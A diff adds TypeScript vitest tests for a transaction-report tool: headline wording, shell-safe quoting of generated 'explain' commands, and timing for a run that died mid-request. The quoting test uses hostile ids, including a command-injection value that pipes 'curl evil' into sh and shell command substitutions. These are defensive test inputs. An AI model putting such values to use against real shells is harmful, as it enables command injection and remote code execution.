@@ -1,10 +1,12 @@
+import { execFileSync } from 'node:child_process'
 import { describe, expect, it } from 'vitest'
 import { RunLog } from '../../src/audit/run-log.ts'
 import { TerminalError } from '../../src/domain/errors.ts'
 import { chooseRun } from '../../src/report/choose-run.ts'
+import { renderPage } from '../../src/report/page/page.ts'
 import type { Warehouse } from '../../src/warehouse/warehouse.ts'
 import { duckdb } from '../warehouse/duckdb-engine.ts'
-import { HOUR, type LoggedRun, logRun, MINUTE, RUN, reportOf, START } from './logged-run.ts'
+import { HOUR, type LoggedRun, logRun, MINUTE, RUN, reportOf, SECOND, START } from './logged-run.ts'
 
 const unfinished: LoggedRun = {
   counts: null,
@@ -234,5 +236,73 @@ describe('the headline', () => {
       'explain t1',
     ])
     expect(headline.next[0]?.why).toContain('currency_missing')
+  })
+
+  it('does not say "most" where it is less than half', async () => {
+    const warehouse = await duckdb.open()
+    const reasons = ['currency_missing', 'identifier_missing', 'kind_unknown', 'app_token_missing'] as const
+    const rows = reasons.map((reason, index) => ({
+      transactionId: `t${index}`,
+      status: 'invalid' as const,
+      reason,
+    }))
+    await logRun(warehouse, { rows })
+    expect((await reportOf(warehouse)).headline.next[0]?.why).toMatch(/ Such as \w+: /)
+  })
+
+  it.each(["x'; curl evil|sh; '", '$(touch x) `touch y` "z" \\', '-42', '', `${'a'.repeat(200)} b`])(
+    'gives commands that a shell takes as they are meant, for the id %j',
+    async (id) => {
+      const warehouse = await duckdb.open()
+      await logRun(warehouse, { rows: [{ transactionId: id, status: 'in_doubt', reason: 'timed_out' }] })
+      const report = await reportOf(warehouse)
+      const command = report.headline.next.find((step) => step.command?.startsWith('explain'))!.command!
+      const printed = execFileSync('/bin/sh', ['-c', `printf '<%s>' ${command}`], { encoding: 'utf8' })
+      expect(printed).toBe(id.startsWith('-') ? `<explain><--><${id}>` : `<explain><${id}>`)
+      // On the page, too, nothing is left out.
+      const escaped = renderPage(report).match(/<code class="whole">adjust-s2s (explain[^<]*)<\/code>/)?.[1]
+      expect(unescaped(escaped!)).toBe(command)
+    },
+  )
+})
+
+function unescaped(text: string): string {
+  const entities: Record<string, string> = {
+    '&lt;': '<',
+    '&gt;': '>',
+    '&quot;': '"',
+    '&#39;': "'",
+    '&amp;': '&',
+  }
+  return text.replace(/&[#\w]+;/g, (entity) => entities[entity]!)
+}
+
+describe('a run that died with a request in flight', () => {
+  it('was last seen at work, not when that was found out hours later', async () => {
+    const warehouse = await duckdb.open()
+    const found = { settledAtMs: START + 9 * HOUR, httpStatus: null, latencyMs: null }
+    await logRun(warehouse, {
+      ...unfinished,
+      rows: [
+        { transactionId: 't1' },
+        {
+          transactionId: 't2',
+          ...{ status: 'in_doubt', reason: 'process_died' },
+          sentAtMs: START + 2 * SECOND,
+          ...found,
+        },
+        {
+          transactionId: 't3',
+          ...{ status: 'in_doubt', reason: 'journal_lost' },
+          sentAtMs: null,
+          ...found,
+        },
+      ],
+    })
+    await closed(warehouse, 'recovered')
+    const { run, sending } = await reportOf(warehouse, { nowMs: START + 10 * HOUR })
+    expect(run.last_seen_at).toBe(new Date(START + 2 * SECOND).toISOString())
+    expect(sending).toMatchObject({ span_s: 1, sent: 2, answered: 1, unanswered: 0 })
+    expect(sending?.spans).toHaveLength(3)
   })
 })
